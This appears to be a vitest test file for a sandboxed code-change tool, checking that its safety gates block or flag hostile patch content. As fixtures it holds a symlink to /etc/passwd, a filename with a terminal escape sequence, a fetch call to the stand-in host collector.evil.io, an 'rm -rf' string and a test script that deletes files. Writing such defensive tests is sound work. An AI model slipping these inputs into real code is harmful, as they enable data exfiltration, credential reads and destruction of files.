import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ExportedEntry, Sandbox } from '../../../agents/workspace.ts';
import { blastRadiusArtifactSchema } from '../../../main/domain/artifacts/blast-radius.ts';
import { createApp, type App } from '../../../main/app.ts';
import type { RunRow } from '../../../main/domain/views.ts';
import { createEnvironmentKeyring } from '../../../main/secrets/keyring.ts';
import { imageTag } from '../../../sandbox/image/digest.mjs';
import { credentials } from '../../hostile/diff-safety/credentials.ts';
import { makeRepository, snapshotFolder, type Files, type TestRepository } from '../../support/repository.ts';

let home: string;
let repository: TestRepository;
let app: App;

const blemished: Files = { 'README.md': '# Notes\n\nSee [the guide](Guide.md).\n', 'guide.md': '# Guide\n\nRead on.\n' };

beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), 'touchline-outcomes-'));
});

afterEach(async () => {
  await app.close();
  repository.remove();
  rmSync(home, { recursive: true, force: true });
});

/** A whole run by the real house, with something standing between it and its sandbox. */
async function run(files: Files, decorateSandbox: (sandbox: Sandbox) => Sandbox = (sandbox) => sandbox): Promise<RunRow> {
  repository = makeRepository({ files });
  const before = snapshotFolder(repository.dir);
  const opened = createApp({
    home, root: resolve(import.meta.dirname, '../../..'), imageTag: imageTag(), actor: 'system', keyring: createEnvironmentKeyring({}), decorateSandbox,
    onProgress: () => undefined, onFault: (fault) => { throw new Error(fault.message); },
  });
  if (!opened.ok) throw new Error(opened.error.message);
  app = opened.value;
  const workspace = await app.desk.addWorkspace(repository.dir);
  if (!workspace.ok) throw new Error(workspace.error.message);
  const asked = await app.desk.dryRun(workspace.value.workspaceId, 'once', null);
  if (!asked.ok) throw new Error(asked.error.message);
  await app.dispatcher.idle();
  expect(snapshotFolder(repository.dir)).toEqual(before);
  const ended = app.ledger.read.run(asked.value.runId);
  if (ended === undefined) throw new Error('the run is gone');
  return ended;
}

/** What an exported tree looks like when something in the container added one more entry. */
function withExtra(entry: ExportedEntry): (sandbox: Sandbox) => Sandbox {
  return (sandbox) => ({
    ...sandbox,
    open: async (spec) => {
      const workspace = await sandbox.open(spec);
      if (!workspace.ok) return workspace;
      const { value } = workspace;
      return {
        ok: true,
        value: {
          id: value.id, purpose: value.purpose, root: value.root,
          inject: (tree, tar) => value.inject(tree, tar),
          write: (tree, written, removals) => value.write(tree, written, removals),
          exec: (request) => value.exec(request),
          linkDependencies: (tree, key, folder) => value.linkDependencies(tree, key, folder),
          close: () => value.close(),
          sealAndExport: async (tree, limits) => {
            const entries = await value.sealAndExport(tree, limits);
            return entries.ok ? { ok: true, value: [...entries.value, entry] } : entries;
          },
        },
      };
    },
  });
}

describe('one rejected entry', () => {
  it.each([
    ['a link out of the tree', { name: Buffer.from('notes'), type: 'symlink', mode: 0o777, size: 0, target: Buffer.from('/etc/passwd') }],
    ['a git folder', { name: Buffer.from('sub/.git/config'), type: 'file', mode: 0o644, size: 1, bytes: Buffer.from('x') }],
    ['a name that steers a terminal', { name: Buffer.from('a\u001b[2J.txt'), type: 'file', mode: 0o644, size: 1, bytes: Buffer.from('x') }],
  ] as const)('blocks the whole run: %s', async (_, entry) => {
    const ended = await run(blemished, withExtra(entry));
    expect(ended).toMatchObject({ status: 'done', result: 'blocked' });
    expect(app.ledger.read.decision(ended.runId)).toBeUndefined();
    expect(app.ledger.read.artifacts(ended.runId).map((artifact) => artifact.name)).not.toContain('changes.patch');
    const page = await app.desk.run(ended.runId);
    expect(page.ok && page.value.report?.rejections.length).toBe(1);
  });
});

describe('what a patch holds and reaches', () => {
  const written = (name: string, text: string): ExportedEntry => ({ name: Buffer.from(name), type: 'file', mode: 0o644, size: Buffer.byteLength(text), bytes: Buffer.from(text) });

  it('is refused for a credential, whose text is in no fact and in no artifact but the patch itself', async () => {
    const token = credentials['a GitLab token'] ?? '';
    const ended = await run(blemished, withExtra(written('settings.ts', `export const token = '${token}';\n`)));
    expect(ended).toMatchObject({ status: 'done', result: 'rejected' });
    const page = await app.desk.run(ended.runId);
    if (!page.ok) throw new Error(page.error.message);
    expect(page.value.report?.policyInputs?.safety).toMatchObject([{ kind: 'secret', path: 'settings.ts', line: 1 }]);
    expect(page.value.decision?.heldBy).toEqual(['diff-safety']);
    expect(JSON.stringify(app.ledger.read.factsOf(ended.runId))).not.toContain(token);
    const holding = app.ledger.read.artifacts(ended.runId).filter(({ sha256 }) => {
      const bytes = app.ledger.artifacts.get(sha256);
      return bytes.ok && Buffer.from(bytes.value).includes(token);
    });
    expect(holding.map(({ name }) => name)).toEqual(['changes.patch']);
  });

  it('is told to the person, with a picture of what is reached', async () => {
    const ended = await run({ ...blemished, 'src/a.ts': 'export const a = 1;\n', 'src/b.ts': "import { a } from './a.ts';\n" }, withExtra(written('src/c.ts', "import './a.ts';\nfetch('https://collector.evil.io');\n")));
    expect(ended).toMatchObject({ status: 'done', result: 'patch-ready' });
    const artifacts = new Map(app.ledger.read.artifacts(ended.runId).map(({ name, sha256 }) => [name, app.ledger.artifacts.get(sha256)]));
    const textOf = (name: string): string => {
      const bytes = artifacts.get(name);
      return bytes?.ok === true ? Buffer.from(bytes.value).toString('utf8') : '';
    };
    const radius = blastRadiusArtifactSchema.parse(JSON.parse(textOf('blast_radius.json')));
    expect(radius.picture.nodes.map(({ path }) => path)).toEqual(['README.md', 'src/c.ts']);
    expect(radius.graph).toMatchObject({ modules: 3, imports: 2, notRead: 0 });
    expect(textOf('pull_request.md')).toContain('network-host src/c.ts:2 The host collector.evil.io is named here');
    expect(app.ledger.read.decision(ended.runId)?.decision.heldBy).toContain('diff-safety');
  });
});

describe('a sandbox that does not hold', () => {
  it('turns the loop off before anything of the repository enters a container', async () => {
    const injected: string[] = [];
    const leaky = (sandbox: Sandbox): Sandbox => ({
      ...sandbox,
      selfTest: async (signal) => {
        const report = await sandbox.selfTest(signal);
        return report.ok ? { ok: true, value: { ...report.value, probes: [...report.value.probes, { name: 'host unreachable', holds: false, detail: '10.0.0.1 answered' }] } } : report;
      },
      open: async (spec) => {
        const workspace = await sandbox.open(spec);
        if (!workspace.ok) return workspace;
        const { inject } = workspace.value;
        return { ok: true, value: { ...workspace.value, inject: (tree, tar) => (injected.push(tree), inject(tree, tar)) } };
      },
    });
    const ended = await run(blemished, leaky);
    expect(ended).toMatchObject({ status: 'failed', fault: { code: 'sandbox_not_safe' } });
    expect(ended.sentence).toContain('host unreachable');
    expect(injected).toEqual([]);
  });
});

describe('the workspace’s own policy', () => {
  it('tightens the decision, read from the base commit', async () => {
    const ended = await run({ ...blemished, '.touchline/policy.json': '{"version":1,"paths":{"forbidden":["README.md"]}}' });
    expect(ended).toMatchObject({ status: 'done', result: 'rejected' });
    expect(app.ledger.read.decision(ended.runId)?.decision).toMatchObject({ outcome: 'REJECT' });
  });

  it('is a clear fault when it is not valid', async () => {
    expect(await run({ ...blemished, '.touchline/policy.json': '{"version":1,"run":"rm -rf"}' })).toMatchObject({ status: 'failed', fault: { code: 'policy_not_valid' } });
  });
});

describe('a check that lies and breaks things', () => {
  it('is run after the patch was taken out, changes nothing of it, and is caught by the host’s own count', async () => {
    const ended = await run({
      ...blemished,
      'package.json': '{"name":"liar","version":"1.0.0","type":"module","scripts":{"test":"node --test"}}\n',
      // On the base two tests run; where the link is mended one of them is not there any more.
      'board.test.js': [
        "import { readFileSync, rmSync, writeFileSync } from 'node:fs';",
        "import test from 'node:test';",
        "const mended = readFileSync('README.md', 'utf8').includes('guide.md)');",
        "test('one', () => {});",
        "if (!mended) test('two', () => {});",
        "writeFileSync('README.md', 'overwritten');",
        "rmSync('guide.md');",
      ].join('\n'),
    });
    const page = await app.desk.run(ended.runId);
    if (!page.ok) throw new Error(page.error.message);
    expect(page.value.checks?.rows.map((row) => row.verdict)).toEqual(['fewer-tests']);
    expect(page.value.patch?.files.map((file) => file.path)).toEqual(['README.md']);
    expect(page.value.decision).toMatchObject({ outcome: 'REQUIRES_HUMAN_REVIEW' });
    expect(page.value.decision?.heldBy.length).toBeGreaterThan(0);
  });
});
